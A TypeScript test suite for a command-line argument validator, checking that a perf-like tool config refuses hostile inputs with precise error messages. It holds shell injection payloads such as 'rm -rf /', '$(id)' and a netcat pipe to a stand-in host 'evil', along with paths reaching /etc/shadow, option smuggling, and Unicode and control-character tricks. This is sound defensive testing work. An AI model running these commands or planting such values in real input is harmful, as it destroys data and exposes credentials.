/**
 * Hostile input: every case must be refused, at the right path, with a message that says why. The sample config is
 * perf-like (testdata/perf.ts): --freq integer 1..10000 (-F), --call-graph fp|dwarf, --event cpu-clock|task-clock,
 * --pid-filter, --verbose, --output path under /data or /tmp/toe, --comm repeatable patterned string, --stop-signal,
 * --interval duration 100ms..1h, --mmap-size quantity up to 4Gi, --cpu-share percent up to 95, <label> positional;
 * defaultArgs fix `record --no-inherit`; at most 24 arguments of 128 characters.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { admitArgs } from './index.ts';
import { perfConfig } from './testdata/perf.ts';

interface Case {
  name: string;
  args: string[];
  /** Index of the argument the error is about; 'list' for the args list itself. */
  at: number | 'list';
  /** Every fragment must appear in that error's message. */
  says: RegExp[];
}

const cases: Case[] = [];
const add = (name: string, args: string[], at: number | 'list', ...says: RegExp[]): void => {
  cases.push({ name, args, at, says });
};
const esc = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

// 1. Shell injection, variables and globs in every typed parameter. No shell ever runs, but no type lets them in.
const payloads = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  '$VAR',
  '${IFS}cat${IFS}/etc/passwd',
  '*',
  '?',
  '[a]',
  '| nc evil 1',
  '&& reboot',
  '> /etc/passwd',
  "'$(id)'",
];
const targets: Array<{ flag: string; prefix: string; says: RegExp }> = [
  { flag: '--freq', prefix: '100', says: /is not an integer for --freq \(integer, 1\.\.10000\)/ },
  { flag: '--call-graph', prefix: 'fp', says: /is not an allowed value for --call-graph \(one of fp, dwarf\)/ },
  { flag: '--interval', prefix: '1s', says: /is not a duration .* for --interval \(duration such as 30s, 5m or 1h, 100ms\.\.1h\)/ },
  { flag: '--mmap-size', prefix: '1Mi', says: /is not a quantity .* for --mmap-size/ },
  { flag: '--cpu-share', prefix: '5', says: /is not an integer for --cpu-share \(percent, a whole number without %, 0\.\.95\)/ },
  {
    flag: '--stop-signal',
    prefix: 'TERM',
    says: /is not a signal TOE allows for --stop-signal \(signal, one of SIGTERM, SIGINT, SIGUSR1\)/,
  },
  {
    flag: '--output',
    prefix: '/data/x',
    says: /(may use only A-Z|ends with \/).* for --output \(absolute path under \/data or \/tmp\/toe\)/,
  },
  { flag: '--comm', prefix: 'perf', says: /(does not match the pattern|above the maximum 15) for --comm/ },
  { flag: '--pid-filter', prefix: '1', says: /is not an integer for --pid-filter/ },
];
payloads.forEach((payload, i) => {
  for (const t of targets) {
    const value = `${t.prefix}${payload}`;
    if (i % 2 === 0) add(`${t.flag} with ${payload}`, [`${t.flag}=${value}`], 0, t.says);
    else add(`${t.flag} (separate value) with ${payload}`, ['-v', t.flag, value], 2, t.says);
  }
  add(`positional with ${payload}`, [`run${payload}`], 0, /does not match the pattern for <label> \(string, matching/);
});

// 2. Option smuggling.
add('short -o with a path outside the roots', ['-o/etc/shadow'], 0, /"\/etc\/shadow" is not under an allowed directory for --output/);
add("--output into the target's root", ['--output=/proc/1/root/etc/shadow'], 0, /not under an allowed directory/);
add('--output via /proc/self', ['--output', '/proc/self/root/data/x'], 1, /not under an allowed directory/);
add('-o separate with traversal', ['-o', '/data/../../etc/shadow'], 1, /contains a \.\. segment/);
add('--freq=--help', ['--freq=--help'], 0, /"--help" is not an integer for --freq/);
add(
  '--freq followed by a flag',
  ['--freq', '--help'],
  0,
  /next argument "--help" starts with "-"; for a value that starts with "-", write --freq=VALUE/,
);
add('-F followed by a flag', ['-F', '-v'], 0, /next argument "-v" starts with "-"/);
add('--help', ['--help'], 0, /unknown flag --help; allowed flags: --freq \(-F\), --call-graph \(-g\)/);
add('-h', ['-h'], 0, /unknown flag -h; allowed flags:/);
add('--exec', ['--exec=/bin/sh'], 0, /unknown flag --exec;/);
add('-x short unknown', ['-x', 'y'], 0, /unknown flag -x;/);
add('a second flag glued into a value', ['--freq=100 --output=/etc/passwd'], 0, /is not an integer for --freq/);
add('a flag glued into a string value', ['--comm=perf --output=/etc'], 0, /above the maximum 15|does not match/);
add(
  'duplicate via short and long',
  ['-F1', '--freq=2'],
  1,
  /--freq was already given as "-F1" \(spec\.tool\.args\[0\]\); it may appear once/,
);
add('duplicate with the same value', ['--freq=1', '--freq=1'], 1, /already given/);
add('duplicate via separate forms', ['-g', 'fp', '--call-graph', 'dwarf'], 2, /--call-graph was already given as "-g fp"/);
add('duplicate positional', ['a', 'b'], 1, /unexpected positional argument; this tool takes <label> only/);
add('combined short flags', ['-vF5'], 0, /short flags cannot be combined/);
add('flag glued to its value without =', ['--freq100'], 0, /unknown flag --freq100;/);
add('a second flag glued to a short value', ['-F100--verbose'], 0, /"100--verbose" is not an integer for --freq/);
add('a second flag glued to an enum value', ['-gfp,--output=/etc'], 0, /is not an allowed value for --call-graph/);
add('combined short booleans', ['-vv'], 0, /-v takes no value/);
add('-F=value', ['-F=5'], 0, /is "=" part of the value/);
add('end of options', ['--', '--freq=5'], 0, /"--" \(end of options\) is not accepted/);
add('lone dash', ['-'], 0, /lone "-"/);
add('empty flag name', ['--=5'], 0, /the flag name is empty/);
add('override a defaultArgs flag', ['--no-inherit'], 0, /--no-inherit is set by the admin in defaultArgs and cannot be overridden/);
add('abbreviated flag', ['--fr=5'], 0, /unknown flag --fr;/);
add('upper-case flag', ['--FREQ=5'], 0, /unknown flag --FREQ;/);
add('colon instead of =', ['--freq:5'], 0, /unknown flag --freq:5;/);
add('three dashes', ['---freq=5'], 0, /unknown flag ---freq;/);
add('single-dash long flag', ['-freq=5'], 0, /unknown flag -f;/);
add('no- prefix negation', ['--no-verbose'], 0, /unknown flag --no-verbose;/);
add('boolean with a number', ['--verbose=1'], 0, /"1" is not true or false for --verbose \(boolean: --verbose or --verbose=false\)/);
add('boolean with yes', ['--verbose=yes'], 0, /"yes" is not true or false/);
add('boolean upper-case', ['--verbose=TRUE'], 0, /"TRUE" is not true or false/);
add('short boolean with a value', ['-v1'], 0, /-v takes no value/);
add('enum list', ['--call-graph=dwarf,fp'], 0, /"dwarf,fp" is not an allowed value for --call-graph/);
add('enum case', ['--call-graph=DWARF'], 0, /case-sensitive: dwarf/);
add('enum not listed', ['--call-graph=lbr'], 0, /"lbr" is not an allowed value/);
add('enum with a suffix', ['--call-graph=dwarf,65528'], 0, /not an allowed value/);
add('enum repeatable with junk', ['-e', 'cpu-clock', '-e', 'cycles'], 3, /"cycles" is not an allowed value for --event/);
add('signal not in the values', ['--stop-signal=SIGKILL'], 0, /SIGKILL is not allowed here for --stop-signal/);
add('signal alias not in the values', ['--stop-signal=KILL'], 0, /SIGKILL is not allowed here/);
add('signal number', ['--stop-signal=9'], 0, /signal numbers are not accepted/);
add('negative signal number', ['--stop-signal=-9'], 0, /is not a signal TOE allows/);
add("signal outside TOE's list", ['--stop-signal=SIGSEGV'], 0, /"SIGSEGV" is not a signal TOE allows/);
add('lower-case signal', ['--stop-signal=sigterm'], 0, /is not a signal TOE allows/);
add('SIGSIG', ['--stop-signal=SIGSIGTERM'], 0, /is not a signal TOE allows/);
add('real-time signal', ['--stop-signal=SIGRTMIN+1'], 0, /is not a signal TOE allows/);
add('positional that looks like a flag value', ['--verbose', 'false', 'x'], 2, /unexpected positional argument/);

// 3. Traversal and paths.
const paths: Array<[string, RegExp]> = [
  ['/data/../etc', /contains a \.\. segment/],
  ['/data/..', /contains a \.\. segment/],
  ['/tmp/toe/../../etc/shadow', /\.\. segment/],
  ['/data/./x', /contains a \. segment/],
  ['/data/.', /\. segment/],
  ['//etc', /empty segment/],
  ['/data//x', /empty segment/],
  ['/data/', /trailing slash/],
  ['data/x', /is not an absolute path/],
  ['./x', /not an absolute path/],
  ['../etc', /not an absolute path/],
  ['~/x', /not an absolute path/],
  ['~root', /not an absolute path/],
  ['/data2/x', /not under an allowed directory/],
  ['/dat', /not under/],
  ['/tmp/toe2/x', /not under/],
  ['/tmp', /not under/],
  ['/', /not under/],
  ['/etc/shadow', /not under/],
  ['/proc/1/root/etc/shadow', /not under/],
  ['/data/%2e%2e/etc', /contains "%"/],
  ['/data/%2e%2e%2fetc', /contains "%"/],
  ['/data/..%2f..%2fetc', /contains "%"/],
  ['/data/x y', /contains " "/],
  ['/data/*', /contains "\*"/],
  ['/data/?', /contains "\?"/],
  ['/data/[a]', /contains "\["/],
  ['/data/$HOME', /contains "\$"/],
  ['/data/${IFS}', /contains "\$"/],
  ['/data/~root', /contains "~"/],
  ['/data\\..\\etc', /contains "\\\\"/],
  ['/data/\u2215etc', /contains "\\u2215"/],
  ['/data/\uff0e\uff0e', /contains "\\uFF0E"/],
  ['/data/a:b', /contains ":"/],
];
for (const [path, says] of paths) {
  add(`path ${path}`, [`--output=${path}`], 0, says, /for --output/);
}

// 4. Unicode tricks.
add('en dash flag', ['\u2013freq=5'], 0, /character 1 is U\+2013 \(en dash\), a look-alike dash/);
add('em dash flag', ['\u2014freq=5'], 0, /U\+2014 \(em dash\)/);
add('double en dash', ['\u2013\u2013freq=5'], 0, /U\+2013/);
add('hyphen U+2010', ['\u2010\u2010freq=5'], 0, /U\+2010 \(hyphen\), a look-alike dash/);
add('non-breaking hyphen', ['-\u2011freq=5'], 0, /character 2 is U\+2011/);
add('figure dash', ['\u2012F5'], 0, /U\+2012/);
add('horizontal bar', ['\u2015F5'], 0, /U\+2015/);
add('minus sign', ['\u2212\u2212freq=5'], 0, /U\+2212 \(minus sign\), a look-alike dash/);
add('minus sign in a number', ['--pid-filter=\u22125'], 0, /U\+2212/);
add('fullwidth hyphen-minus', ['\uff0d\uff0dfreq=5'], 0, /U\+FF0D \(fullwidth hyphen-minus\)/);
add('small hyphen-minus', ['\ufe63F5'], 0, /U\+FE63/);
add('small em dash', ['\ufe58F5'], 0, /U\+FE58/);
add('en dash inside a value', ['--comm=a\u2013b'], 0, /character 9 is U\+2013/);
add('fullwidth flag letters', ['--\uff46\uff52\uff45\uff51=5'], 0, /unknown flag "--\\uFF46\\uFF52\\uFF45\\uFF51"; allowed flags/);
add('fullwidth short flag', ['-\uff26100'], 0, /unknown flag "-\\uFF26";/);
add('fullwidth digits', ['--freq=\uff11\uff10\uff10'], 0, /"\\uFF11\\uFF10\\uFF10" is not an integer for --freq/);
add('Arabic-Indic digits', ['--freq=\u0663'], 0, /is not an integer/);
add('mathematical digit', ['--freq=\u{1d7d3}'], 0, /"\\u\{1D7D3\}" is not an integer/);
add('Cyrillic look-alike in an enum', ['--call-graph=f\u0440'], 0, /"f\\u0440" is not an allowed value/);
add('combining accent in a flag', ['--e\u0301vent=cpu-clock'], 0, /unknown flag/);
add('zero width space in a value', ['--freq=100\u200b'], 0, /character 11 is U\+200B \(zero width space\), an invisible formatting/);
add('zero width joiner', ['--freq=\u200d5'], 0, /U\+200D \(zero width joiner\)/);
add('zero width non-joiner', ['--call-graph=dw\u200carf'], 0, /U\+200C/);
add('left-to-right mark', ['--comm=perf\u200e'], 0, /U\+200E \(left-to-right mark\)/);
add('right-to-left mark', ['\u200f--freq=5'], 0, /character 1 is U\+200F/);
add('right-to-left override', ['--freq=\u202e001'], 0, /U\+202E \(right-to-left override\)/);
add('left-to-right override', ['--comm=\u202dabc'], 0, /U\+202D/);
add('right-to-left embedding', ['--comm=a\u202bb'], 0, /U\+202B/);
add('pop directional formatting', ['--comm=a\u202cb'], 0, /U\+202C/);
add('left-to-right isolate', ['--freq=1\u2066'], 0, /U\+2066 \(left-to-right isolate\)/);
add('right-to-left isolate', ['run\u2067x'], 0, /U\+2067/);
add('first strong isolate', ['run\u2068x'], 0, /U\+2068/);
add('pop directional isolate', ['run\u2069x'], 0, /U\+2069/);
add('Trojan Source comment trick', ['--comm=perf\u202e\u2066 --output=/etc\u2069\u2066'], 0, /U\+202E/);
add('byte order mark', ['\ufeff--freq=5'], 0, /U\+FEFF \(byte order mark\)/);
add('soft hyphen', ['--call-graph=dw\u00adarf'], 0, /U\+00AD, an invisible formatting/);
add('word joiner', ['--freq=1\u20600'], 0, /U\+2060/);
add('Mongolian vowel separator', ['--freq=5\u180e'], 0, /U\+180E/);
add('Arabic letter mark', ['run\u061c'], 0, /U\+061C/);
add('tag character', ['run\u{e0041}'], 0, /U\+E0041/);
add('no-break space', ['--freq=5\u00a0'], 0, /U\+00A0 \(no-break space\), a look-alike space/);
add('ideographic space', ['--freq=\u30005'], 0, /U\+3000/);
add('thin space', ['--comm=a\u2009b'], 0, /U\+2009, a look-alike space/);
add('line separator', ['--output=/data/a\u2028b'], 0, /U\+2028, a line or paragraph separator/);
add('paragraph separator', ['run\u2029'], 0, /U\+2029/);
add('unpaired surrogate', ['--freq=1\ud800'], 0, /an unpaired surrogate/);

// 5. Numbers.
const numbers: Array<[string, string, RegExp]> = [
  ['--freq', '1e309', /exponent notation is not allowed/],
  ['--freq', '1e3', /exponent/],
  ['--freq', '1E3', /exponent/],
  ['--freq', '9007199254740993', /beyond the exactly representable integers/],
  ['--freq', '99999999999999999999', /beyond the exactly/],
  ['--freq', '-1', /-1 is below the minimum 1/],
  ['--freq', '0', /0 is below the minimum 1/],
  ['--freq', '10001', /10001 is above the maximum 10000/],
  ['--freq', '999999', /999999 is above the maximum 10000 for --freq \(integer, 1\.\.10000\)/],
  ['--freq', '0x10', /hexadecimal/],
  ['--freq', '0X10', /hexadecimal/],
  ['--freq', '0b101', /binary/],
  ['--freq', '0o17', /octal/],
  ['--freq', '010', /leading zeros/],
  ['--freq', '00', /leading zeros/],
  ['--freq', '+5', /a leading \+ is not allowed/],
  ['--freq', '-0', /write 0/],
  ['--freq', ' 5', /leading or trailing whitespace/],
  ['--freq', '5 ', /whitespace/],
  ['--freq', 'NaN', /"NaN" is not an integer/],
  ['--freq', 'Infinity', /"Infinity" is not an integer/],
  ['--freq', '-Infinity', /is not an integer/],
  ['--freq', '1.0', /not a whole number/],
  ['--freq', '1.', /not a whole number/],
  ['--freq', '.5', /not a whole number/],
  ['--freq', '1_000', /not an integer/],
  ['--freq', '1,000', /not an integer/],
  ['--freq', '5-', /not an integer/],
  ['--freq', '--5', /not an integer/],
  ['--freq', '1 2', /not an integer/],
  ['--pid-filter', '-5', /-5 is below the minimum 1/],
  ['--pid-filter', '4194305', /above the maximum 4194304/],
  ['--cpu-share', '96', /96 is above the maximum 95/],
  ['--cpu-share', '50%', /write "50" without the %/],
  ['--cpu-share', '-1', /below the minimum 0/],
  ['--cpu-share', '50.5', /not a whole number/],
  ['--cpu-share', '0x32', /hexadecimal/],
  ['--cpu-share', '1e2', /exponent/],
  ['--interval', '2h', /2h is above the maximum 1h/],
  ['--interval', '61m', /61m is above the maximum 1h/],
  ['--interval', '50ms', /50ms is below the minimum 100ms/],
  ['--interval', '1d', /is not a duration/],
  ['--interval', '-1s', /negative durations/],
  ['--interval', '30', /has no unit/],
  ['--interval', '1.5s', /not a duration/],
  ['--interval', '1h 30m', /not a duration/],
  ['--interval', 'PT1H', /not a duration/],
  ['--interval', '9999999h', /not a duration/],
  ['--interval', '1e3s', /not a duration/],
  ['--mmap-size', '5Gi', /5Gi is above the maximum 4Gi/],
  ['--mmap-size', '4.1Gi', /above the maximum 4Gi/],
  ['--mmap-size', '4294967297', /above the maximum/],
  ['--mmap-size', '-1Mi', /negative quantities/],
  ['--mmap-size', '1e9', /not a quantity/],
  ['--mmap-size', '1GB', /not a quantity/],
  ['--mmap-size', '0x10Mi', /not a quantity/],
  ['--mmap-size', '1 Gi', /not a quantity/],
  ['--mmap-size', 'Infinity', /not a quantity/],
];
for (const [flag, value, says] of numbers) add(`${flag}=${value}`, [`${flag}=${value}`], 0, says, new RegExp(`for ${esc(flag)} \\(`));

// 6. Empty values, lengths and counts.
for (const flag of [
  '--freq',
  '--call-graph',
  '--output',
  '--comm',
  '--stop-signal',
  '--interval',
  '--mmap-size',
  '--cpu-share',
  '--verbose',
]) {
  add(`empty ${flag}=`, [`${flag}=`], 0, /the value is empty for /);
}
add('empty argument', [''], 0, /an empty argument is not allowed/);
add('empty separate value', ['--freq', ''], 1, /an empty argument is not allowed/);
add('flag without a value at the end', ['-v', '-F'], 1, /-F needs a value; write --freq=VALUE/);
add('long flag without a value at the end', ['--output'], 0, /--output needs a value/);
add('over-long string', [`--comm=${'a'.repeat(200)}`], 0, /the argument is 207 characters, above the maximum 128/);
add('over-long positional', ['x'.repeat(129)], 0, /129 characters, above the maximum 128/);
add('over-long path', [`--output=/data/${'a/'.repeat(60)}a`], 0, /above the maximum 128/);
add('over-long multibyte', ['😀'.repeat(129)], 0, /129 characters/);
add(
  'too many arguments',
  Array.from({ length: 25 }, (_, i) => `--comm=c${i}`),
  'list',
  /25 arguments given; at most 24 are allowed/,
);
add(
  'far too many arguments',
  Array.from({ length: 100_000 }, () => '-v'),
  'list',
  /100000 arguments given/,
);
add('string longer than maxLength', ['--comm=abcdefghijklmnop'], 0, /the value is 16 characters, above the maximum 15 for --comm/);

// 7. Control characters.
add('NUL in a value', ['--freq=5\0'], 0, /U\+0000 \(NUL\), a control character/);
add('NUL before a flag', ['\0--verbose'], 0, /character 1 is U\+0000 \(NUL\)/);
add('NUL in a path', ['--output=/data/x\0/../../etc'], 0, /NUL/);
add('newline smuggling a flag', ['--freq=5\n--verbose'], 0, /U\+000A \(newline\)/);
add('newline in a positional', ['run\n'], 0, /newline/);
add('carriage return', ['--freq=5\r'], 0, /U\+000D \(carriage return\)/);
add('ESC sequence', ['--comm=\u001b[2J'], 0, /U\+001B \(ESC\)/);
add('bell', ['run\u0007'], 0, /U\+0007, a control character/);
add('backspace', ['--comm=abc\b\b\bxyz'], 0, /U\+0008/);
add('DEL', ['--comm=a\u007f'], 0, /U\+007F \(DEL\)/);
add('C1 next line', ['--comm=a\u0085'], 0, /U\+0085, a control character/);
add('C1 CSI', ['--comm=\u009b31m'], 0, /U\+009B/);
add('tab', ['--freq=\t5'], 0, /U\+0009 \(tab\)/);
add('vertical tab', ['--freq=5\u000b'], 0, /U\+000B/);
add('form feed', ['run\u000c'], 0, /U\+000C/);
add('error in a later argument', ['-v', '--freq=5', 'ok', '--comm=x\ny'], 3, /newline/);

describe('hostile arguments', () => {
  it('has at least 200 cases', () => {
    assert.ok(cases.length >= 200, `only ${cases.length} cases`);
  });
  for (const c of cases) {
    it(`refuses ${c.name}`, () => {
      const result = admitArgs(perfConfig, c.args);
      assert.equal(result.ok, false, `admitted ${JSON.stringify(c.args)}`);
      if (result.ok) return;
      const path = c.at === 'list' ? 'spec.tool.args' : `spec.tool.args[${c.at}]`;
      const found = result.errors.find((e) => e.path === path && c.says.every((re) => re.test(e.message)));
      assert.ok(
        found,
        `no error at ${path} matching ${c.says.join(' and ')}; got:\n${result.errors.map((e) => `${e.path}: ${e.message}`).join('\n')}`,
      );
      for (const e of result.errors) assert.match(e.message, /^[\x20-\x7e…]*$/, 'messages escape everything but printable ASCII');
    });
  }
});
